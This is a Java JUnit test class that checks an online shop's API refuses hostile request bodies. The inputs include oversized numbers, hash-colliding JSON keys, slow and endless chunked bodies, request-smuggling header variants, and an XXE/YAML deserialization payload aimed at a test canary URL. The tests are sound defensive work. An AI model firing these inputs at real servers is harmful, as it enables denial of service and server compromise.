package io.merkato.security;

import static org.assertj.core.api.Assertions.assertThat;

import io.merkato.security.Wire.Reply;
import io.merkato.testing.Answer;
import io.merkato.testing.Shop;
import io.merkato.testing.ShopTest;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.net.http.HttpRequest.BodyPublishers;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Bodies that are made to be expensive, within the limit of their size, or to be read as something else. */
@ShopTest
class HostileBodiesTest {

    private static final int NEARLY_THE_LIMIT = 1_000_000;
    private static final int LONGEST_REFUSAL = 64 * 1024;

    @ParameterizedTest
    @ValueSource(
            strings = {"1e1000000000", "-1e1000000000", "1e-1000000000", "1e2147483648", "0.1e99999999999999999999"})
    void anExponentBeyondAllMeasureIsRefused(String number, Shop shop) {
        refused(addToCart(number, shop));
        refused(newProduct("\"attributes\":{\"weight\":" + number + "}", shop));
        refused(newProduct("\"attributes\":{\"weight\":[" + number + "]}", shop));
        refused(shop.anonymous().post("/v1/auth/login", "{\"email\":" + number + ",\"password\":\"x\"}"));
    }

    @Test
    void aNumberOfAMillionDigitsIsRefused(Shop shop) {
        String digits = "9".repeat(NEARLY_THE_LIMIT);

        refused(addToCart(digits, shop));
        refused(addToCart("0." + digits, shop));
        refused(newProduct("\"attributes\":{\"weight\":" + digits + "}", shop));
        refused(newProduct("\"attributes\":{\"weight\":0." + digits + "}", shop));
    }

    @Test
    void manyFieldsAreRefused(Shop shop) {
        String fields =
                IntStream.range(0, 90_000).mapToObj(i -> "\"k" + i + "\":1").collect(Collectors.joining(","));

        refused(newProduct("\"attributes\":{" + fields + "}", shop));
        refused(shop.anonymous().post("/v1/auth/login", "{" + fields + "}"));
    }

    @Test
    void manyFieldsWhoseHashesAreEqualAreRefused(Shop shop) {
        // The texts Aa and BB have the same hash, and so have all sequences of them of one length.
        String fields = IntStream.range(0, 1 << 14)
                .mapToObj(i -> "\""
                        + Integer.toBinaryString(i | 1 << 14)
                                .substring(1)
                                .replace("0", "Aa")
                                .replace("1", "BB")
                        + "\":1")
                .collect(Collectors.joining(","));

        refused(newProduct("\"attributes\":{" + fields + "}", shop));
        refused(newProduct("\"unknown\":{" + fields + "}", shop));
    }

    @Test
    void listsOfHundredsOfThousandsAreRefusedInFewWords(Shop shop) {
        String nulls = "null" + ",null".repeat(190_000);
        String empties = "{}" + ",{}".repeat(300_000);
        String lists = "[]" + ",[]".repeat(300_000);

        refused(newProduct("\"categories\":[" + nulls + "]", shop));
        refused(newProduct("\"images\":[" + empties + "]", shop));
        refused(newProduct("\"variants\":[" + empties + "]", shop));
        refused(newProduct("\"attributes\":{\"a\":[" + lists + "]}", shop));
        refused(shop.anonymous().post("/v1/auth/login", "{\"email\":[" + lists + "],\"password\":\"x\"}"));
    }

    @Test
    void aMillionElementsAreOverTheLimit(Shop shop) {
        newProduct("\"categories\":[1" + ",1".repeat(1_000_000) + "]", shop).expectProblem(413, "BODY_TOO_LARGE");
    }

    /** As many clients do, which would otherwise see nothing but a connection that broke. */
    @ParameterizedTest
    @CsvSource({
        "/v1/auth/login, Content-Length: 8000000, 413",
        "/v1/auth/login, Transfer-Encoding: chunked, 413",
        "/v1/admin/products, Content-Length: 8000000, 401",
        "/v1/admin/imports, Content-Length: 8000000, 401"
    })
    void whoSendsFarTooMuchToItsEndStillGetsTheAnswer(String path, String length, int status, Shop shop) {
        String body = " ".repeat(8_000_000);
        String sent = length.startsWith("Transfer")
                ? Integer.toHexString(body.length()) + "\r\n" + body + "\r\n0\r\n\r\n"
                : body;

        Reply reply = Wire.send(
                shop,
                "POST %s HTTP/1.1\r\nHost: shop\r\nContent-Type: application/json\r\n%s\r\n\r\n%s"
                        .formatted(path, length, sent));

        assertThat(reply.status()).isEqualTo(status);
        assertThat(reply.header("Connection")).isEqualTo("close");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Transfer-Encoding: chunked",
                "Content-Length: 16000",
                "Content-Length: 16000\r\nExpect: 100-continue"
            })
    void whoIsSilentIsRefusedWithoutBeingWaitedFor(String length, Shop shop) throws IOException {
        try (Socket socket = Wire.connect(shop)) {
            // Half of the time that the server gives connections on which nothing moves.
            socket.setSoTimeout(10_000);
            socket.getOutputStream()
                    .write(("POST /v1/admin/products HTTP/1.1\r\nHost: shop\r\n" + length + "\r\n\r\n")
                            .getBytes(StandardCharsets.US_ASCII));

            assertThat(new String(socket.getInputStream().readAllBytes(), StandardCharsets.US_ASCII))
                    .startsWith("HTTP/1.1 401 ");
        }
    }

    @Test
    void whoAnnouncesLargeBodiesAndSendsNoneShutsNobodyOut(Shop shop) throws IOException {
        List<Socket> idle = new ArrayList<>();
        try {
            for (int i = 0; i < 40; i++) {
                Socket socket = Wire.connect(shop);
                idle.add(socket);
                String length =
                        i % 2 == 0 ? "Transfer-Encoding: chunked\r\n\r\n1\r\n{" : "Content-Length: 1000000\r\n\r\n{";
                socket.getOutputStream()
                        .write(("POST /v1/auth/login HTTP/1.1\r\nHost: shop\r\nContent-Type: application/json\r\n"
                                        + length)
                                .getBytes(StandardCharsets.US_ASCII));
            }

            refused(newProduct("\"description\":\"" + "x".repeat(NEARLY_THE_LIMIT) + "\"", shop));
        } finally {
            for (Socket socket : idle) {
                socket.close();
            }
        }
    }

    @Test
    void aNameOfAMillionCharactersIsRefused(Shop shop) {
        String name = "n".repeat(NEARLY_THE_LIMIT);

        refused(shop.anonymous().post("/v1/auth/login", "{\"" + name + "\":1}"));
        refused(newProduct("\"attributes\":{\"" + name + "\":1}", shop));
    }

    @Test
    void aTextOfAMillionCharactersIsRefused(Shop shop) {
        String text = "x".repeat(NEARLY_THE_LIMIT);

        refused(newProduct("\"description\":\"" + text + "\"", shop));
        refused(shop.customer().patch("/v1/me", "{\"firstName\":\"" + text + "\"}"));
        refused(shop.anonymous().post("/v1/auth/register", """
                        {"email":"%s","password":"%s","firstName":"A","lastName":"B"}
                        """.formatted("a@" + text + ".org", Shop.PASSWORD)));
        refused(shop.anonymous().post("/v1/auth/refresh", "{\"refreshToken\":\"" + text + "\"}"));
        refused(shop.customer().post("/v1/cart/merge", "{\"cartToken\":\"" + text + "\"}"));
    }

    @Test
    void aBodyThatNeverEndsIsCutAtTheLimit(Shop shop) throws IOException {
        byte[] chunk = ("1000\r\n" + " ".repeat(0x1000) + "\r\n").getBytes(StandardCharsets.US_ASCII);
        try (Socket socket = Wire.connect(shop)) {
            OutputStream out = socket.getOutputStream();
            out.write("""
                    POST /v1/auth/login HTTP/1.1\r
                    Host: shop\r
                    Content-Type: application/json\r
                    Transfer-Encoding: chunked\r
                    \r
                    """.getBytes(StandardCharsets.US_ASCII));
            int sent = 0;
            try {
                while (sent < 64 << 20) {
                    out.write(chunk);
                    sent += chunk.length;
                }
            } catch (IOException e) {
                // The shop has hung up, which is what it is to do.
            }
            assertThat(sent).isLessThan(64 << 20);
        }
        shop.anonymous().get("/health/live").expect(200);
    }

    @Test
    void aBodyThatIsShorterThanDeclaredDoesNothing(Shop shop) {
        String email = "new-" + UUID.randomUUID() + "@example.org";
        String body = "{\"email\":\"%s\",\"password\":\"%s\",\"firstName\":\"A\",\"lastName\":\"B\"}"
                .formatted(email, Shop.PASSWORD);

        Reply reply = Wire.sendAndEnd(shop, """
                POST /v1/auth/register HTTP/1.1\r
                Host: shop\r
                Content-Type: application/json\r
                Content-Length: %s\r
                \r
                %s""".formatted(body.length() + 1, body));

        assertThat(reply.status()).isIn(0, 400);
        assertThat(shop.mails(email, 0)).isEmpty();
    }

    @Test
    void whatFollowsADeclaredBodyIsNoPartOfIt(Shop shop) {
        Reply reply = Wire.send(shop, """
                POST /v1/auth/login HTTP/1.1\r
                Host: shop\r
                Content-Type: application/json\r
                Content-Length: 2\r
                \r
                {}{"email":"a@example.org","password":"x"}""");

        // The rest is not taken for another request either.
        assertThat(reply.status()).isEqualTo(422);
        assertThat(reply.body().split("HTTP/1.1 ", -1)).hasSizeLessThanOrEqualTo(2);
        assertThat(reply.body()).doesNotContain("HTTP/1.1 2");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Transfer-Encoding : chunked",
                "Transfer-Encoding: xchunked",
                "Transfer-Encoding: chunked, identity",
                "Transfer-Encoding: identity",
                "Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
                "Transfer-Encoding:\u000bchunked",
                "Content-Length : 5",
                "Content-Length: 5, 6",
                "Content-Length: +5",
                "Content-Length: 0x5"
            })
    void whereABodyEndsIsSaidInOneWay(String header, Shop shop) {
        Reply reply = Wire.send(
                shop,
                "POST /v1/auth/login HTTP/1.1\r\nHost: shop\r\nContent-Type: application/json\r\n" + header + "\r\n"
                        + Wire.LAST + "0\r\n\r\nGET /v1/nothing HTTP/1.1\r\nHost: shop\r\n\r\n");

        assertThat(reply.status()).isEqualTo(400);
        assertThat(reply.header("connection")).isEqualTo("close");
        assertThat(reply.body()).doesNotContain("HTTP/1.1");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "application/xml",
                "text/xml",
                "application/soap+xml",
                "text/yaml",
                "application/x-yaml",
                "application/x-java-serialized-object",
                "application/cbor",
                "application/x-jackson-smile",
                "application/jsonp",
                "text/json",
                "image/svg+xml"
            })
    void onlyJsonIsParsedAndNothingInABodyIsFetched(String type, Shop shop) {
        try (Canary canary = new Canary()) {
            String body = "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY % x SYSTEM \"" + canary.url()
                    + "\"> %x;]><a>!!javax.script.ScriptEngineManager [!!java.net.URL [\"" + canary.url() + "\"]]</a>";
            for (String route : new String[] {"/v1/auth/login", "/v1/cart/items", "/v1/admin/products"}) {
                shop.admin()
                        .send("POST", route, BodyPublishers.ofString(body), type)
                        .expectProblem(415, "UNSUPPORTED_MEDIA_TYPE");
            }
            assertThat(canary.visits()).isZero();
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"UTF-16", "UTF-16LE", "UTF-16BE", "UTF-32", "UTF-32LE", "IBM037"})
    void onlyUtf8IsRead(String encoding, Shop shop) {
        byte[] body = "{\"email\":\"a@example.org\",\"password\":\"not the one\"}".getBytes(Charset.forName(encoding));

        for (String type : new String[] {"application/json", "application/json;charset=" + encoding}) {
            shop.anonymous()
                    .send("POST", "/v1/auth/login", BodyPublishers.ofByteArray(body), type)
                    .expectProblem(400, "MALFORMED_JSON");
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"gzip", "deflate", "br", "zstd", "gzip, gzip", "compress", "aws-chunked"})
    void noBodyIsUnpacked(String encoding, Shop shop) {
        shop.anonymous()
                .with("Content-Encoding", encoding)
                .post("/v1/auth/login", "{}")
                .expectProblem(415, "UNSUPPORTED_MEDIA_TYPE");
    }

    private static void refused(Answer answer) {
        assertThat(answer.status()).as(start(answer)).isBetween(400, 499);
        assertThat(answer.header("content-type")).isEqualTo("application/problem+json");
        assertThat(answer.body().length()).as(start(answer)).isLessThan(LONGEST_REFUSAL);
    }

    private static String start(Answer answer) {
        return answer.body().substring(0, Math.min(500, answer.body().length()));
    }

    private static Answer addToCart(String quantity, Shop shop) {
        return shop.anonymous()
                .post("/v1/cart/items", "{\"variantId\":\"" + UUID.randomUUID() + "\",\"quantity\":" + quantity + "}");
    }

    private static Answer newProduct(String member, Shop shop) {
        return shop.admin().post("/v1/admin/products", "{\"title\":\"x\"," + member + "}");
    }
}
